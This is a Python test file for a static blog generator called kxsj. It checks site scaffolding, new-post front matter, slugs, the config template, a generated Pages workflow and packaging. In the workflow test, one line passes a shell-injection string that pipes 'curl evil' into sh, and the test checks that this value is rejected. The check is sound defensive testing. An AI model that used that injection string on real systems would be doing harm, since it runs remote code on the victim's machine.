"""``kxsj init DIR`` and ``kxsj new "标题"`` (issue 20): a new site that builds
at once, strictly, and publishes with its own Pages workflow; new posts with
valid front matter, never overwriting anything."""

from __future__ import annotations

import datetime as _dt
from dataclasses import fields

import pytest
import yaml

from kxsj.config import Config, load_config
from kxsj.scaffold import ScaffoldError, default_slug, init_site, new_post, site_workflow
from kxsj.scaffold.config_text import config_text, field_docs

SPEC = "kxsj @ git+https://github.com/example/kxsj"


def test_init_then_new_then_strict_build_passes(tmp_path, run_kxsj):
    proc = run_kxsj("init", "blog", "--install", SPEC, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    site = tmp_path / "blog"
    assert {p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()} == {
        "kxsj.yml", "posts/hello-kxsj.md", ".gitignore", ".github/workflows/pages.yml"}
    assert not (site / "templates").exists() and not (site / "static").exists()
    proc = run_kxsj("new", "生成扩散模型漫谈（一）：拆楼", "--tags", "概率,生成模型", cwd=site)
    assert proc.returncode == 0, proc.stderr
    proc = run_kxsj("new", "Hello World: 第二篇", "--slug", "second", cwd=site)
    assert proc.returncode == 0, proc.stderr
    proc = run_kxsj("build", "--strict", cwd=site)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "0 warnings" in proc.stdout
    public = site / "public"
    today = _dt.date.today().isoformat()
    assert (public / "posts" / f"{today}-1" / "index.html").is_file()
    assert (public / "posts" / "second" / "index.html").is_file()
    hello = (public / "posts" / "hello-kxsj" / "index.html").read_text(encoding="utf-8")
    assert "e^{i\\pi} + 1 = 0" in hello  # the example's formula reaches the page as written
    proc = run_kxsj("check", "--strict", cwd=site)
    assert proc.returncode == 0, proc.stderr


def test_new_writes_valid_front_matter_and_refuses_to_overwrite(tmp_path, run_kxsj):
    site = tmp_path / "s"
    (site / "posts").mkdir(parents=True)
    day = _dt.date(2025, 3, 4)
    path = new_post(site / "posts", 'He said: "引号" # 不是注释', tags=["a b", "概率"], today=day)
    meta = yaml.safe_load(path.read_text(encoding="utf-8").split("---")[1])
    assert meta == {"title": 'He said: "引号" # 不是注释', "date": day, "tags": ["a b", "概率"],
                    "categories": [], "slug": "he-said"}
    before = path.read_bytes()
    with pytest.raises(ScaffoldError, match="already exists"):
        new_post(site / "posts", "其他", slug="he-said", today=day)
    assert path.read_bytes() == before
    proc = run_kxsj("new", "再来", "--slug", "he-said", cwd=site)
    assert proc.returncode == 1 and "already exists" in proc.stderr
    assert path.read_bytes() == before
    # A bundle folder of that name is in the way too.
    (site / "posts" / "bundle").mkdir()
    with pytest.raises(ScaffoldError):
        new_post(site / "posts", "x", slug="bundle", today=day)
    with pytest.raises(ScaffoldError, match="slug"):
        new_post(site / "posts", "x", slug="a/b", today=day)


def test_default_slug():
    day = _dt.date(2025, 3, 4)
    assert default_slug("DDPM = 拆楼 + 建楼", day, ()) == "ddpm"
    assert default_slug("Transformer升级之路：17、多模态", day, ()) == "transformer-17"
    assert default_slug("生成扩散模型漫谈", day, ()) == "2025-03-04-1"
    assert default_slug("生成扩散模型漫谈", day, {"2025-03-04-1", "2025-03-04-2"}) == "2025-03-04-3"


def test_init_refuses_a_folder_with_files(tmp_path):
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "notes.txt").write_text("mine", encoding="utf-8")
    with pytest.raises(ScaffoldError, match="not empty"):
        init_site(tmp_path / "full", spec=SPEC)
    assert [p.name for p in (tmp_path / "full").iterdir()] == ["notes.txt"]


def test_config_file_names_every_key_with_its_default(tmp_path):
    text = config_text("我的: 博客")
    (tmp_path / "kxsj.yml").write_text(text, encoding="utf-8")
    config, diags = load_config(tmp_path)
    assert diags == [] and config.title == "我的: 博客"
    # Uncommented, every line gives the default back: no key is missing or wrong.
    keys = [f.name for f in fields(Config) if f.name != "path"]
    uncommented = "\n".join(line[2:] if line.startswith(tuple(f"# {k}: " for k in keys)) else line for line in text.splitlines())
    data = yaml.safe_load(uncommented)
    assert list(data) == keys
    defaults = Config()
    for key in keys:
        if key != "title":
            assert data[key] == getattr(defaults, key), key
    docs = field_docs()
    assert set(docs) >= set(keys), set(keys) - set(docs)
    for key in keys:
        assert docs[key].splitlines()[0].replace("``", "`") in text


def test_site_workflow_is_kxsj_own_with_the_install_step_changed():
    from tests.test_first_run import WORKFLOW

    own = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    made = yaml.safe_load(site_workflow(SPEC))
    own_steps, made_steps = own["jobs"]["build"]["steps"], made["jobs"]["build"]["steps"]
    changed = [(a, b) for a, b in zip(own_steps, made_steps) if a != b]
    assert len(own_steps) == len(made_steps) and len(changed) == 1
    assert changed[0][0]["run"] == "pip install ." and changed[0][1]["run"] == f"pip install '{SPEC}'"
    assert {k: v for k, v in own.items() if k != "jobs"} == {k: v for k, v in made.items() if k != "jobs"}
    assert own["jobs"]["deploy"] == made["jobs"]["deploy"]
    with pytest.raises(ScaffoldError):
        site_workflow("kxsj'; curl evil | sh; echo '")


def test_actionlint_accepts_the_new_sites_workflow(tmp_path, actionlint_path):
    from tests.test_workflow import actionlint

    init_site(tmp_path / "site", spec=SPEC)
    result = actionlint(actionlint_path, tmp_path / "site" / ".github" / "workflows" / "pages.yml")
    assert result.returncode == 0, result.stdout + result.stderr


def test_packaging_ships_what_init_writes():
    from pathlib import Path

    tomllib = pytest.importorskip("tomllib")

    repo = Path(__file__).resolve().parents[1]
    project = tomllib.loads((repo / "pyproject.toml").read_text(encoding="utf-8"))
    force = project["tool"]["hatch"]["build"]["targets"]["wheel"]["force-include"]
    assert force[".github/workflows/pages.yml"] == "kxsj/_site/workflows/pages.yml"
    assert "src/kxsj" in project["tool"]["hatch"]["build"]["targets"]["wheel"]["packages"]
    for name in ("example.md", "gitignore"):
        assert (repo / "src" / "kxsj" / "scaffold" / name).is_file()


@pytest.mark.slow
def test_the_pages_workflow_of_an_initd_site_publishes_it(tmp_path):
    """tests/test_first_run.py's workflow run, on a site made by ``kxsj init``, installing this checkout."""
    from tests.test_first_run import REPO, assert_searchable_site, run_workflow

    site = tmp_path / "site"
    init_site(site, spec=SPEC)
    steps = yaml.safe_load((site / ".github/workflows/pages.yml").read_text(encoding="utf-8"))["jobs"]["build"]["steps"]
    installs = [s for s in steps if s.get("run") == f"pip install '{SPEC}'"]
    assert len(installs) == 1
    installs[0]["run"] = f"pip install '{REPO}'"  # this checkout stands in for the git address
    runner_temp = tmp_path / "runner"
    runner_temp.mkdir()
    uploaded = run_workflow(site, runner_temp, steps)
    assert_searchable_site(uploaded)
    assert (uploaded / "posts" / "hello-kxsj" / "index.html").is_file()
    assert not (uploaded / ".kxsj-cache").exists()


@pytest.mark.slow
def test_init_works_from_the_wheel(tmp_path):
    """The wheel carries what init writes (example post, .gitignore, the workflow) and the templates it builds with."""
    import os
    import subprocess
    import sys
    import zipfile

    from tests.test_first_run import REPO, clean_env

    built = subprocess.run([sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", str(REPO), "-w", str(tmp_path / "dist")],
                           capture_output=True, text=True, timeout=600)
    assert built.returncode == 0, built.stderr[-3000:]
    (wheel,) = (tmp_path / "dist").glob("kxsj-*.whl")
    zipfile.ZipFile(wheel).extractall(tmp_path / "pkg")
    env = clean_env([str(os.path.dirname(sys.executable))])
    env["PYTHONPATH"] = str(tmp_path / "pkg")  # this wheel's kxsj, this environment's libraries

    def kxsj(*args, cwd):
        return subprocess.run([sys.executable, "-m", "kxsj", *args], cwd=cwd, env=env, capture_output=True, text=True,
                              stdin=subprocess.DEVNULL, timeout=300)

    where = kxsj("--version", cwd=tmp_path)
    assert where.returncode == 0
    done = kxsj("init", "site", "--install", SPEC, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "pip install 'kxsj @ git+https://github.com/example/kxsj'" in (tmp_path / "site/.github/workflows/pages.yml").read_text(encoding="utf-8")
    done = kxsj("build", "--strict", cwd=tmp_path / "site")
    assert done.returncode == 0, done.stdout + done.stderr
    probe = subprocess.run([sys.executable, "-c", "import kxsj.scaffold as s; print(s.__file__)"], env=env,
                           capture_output=True, text=True, timeout=60)
    assert probe.stdout.strip().startswith(str(tmp_path / "pkg")), probe.stdout
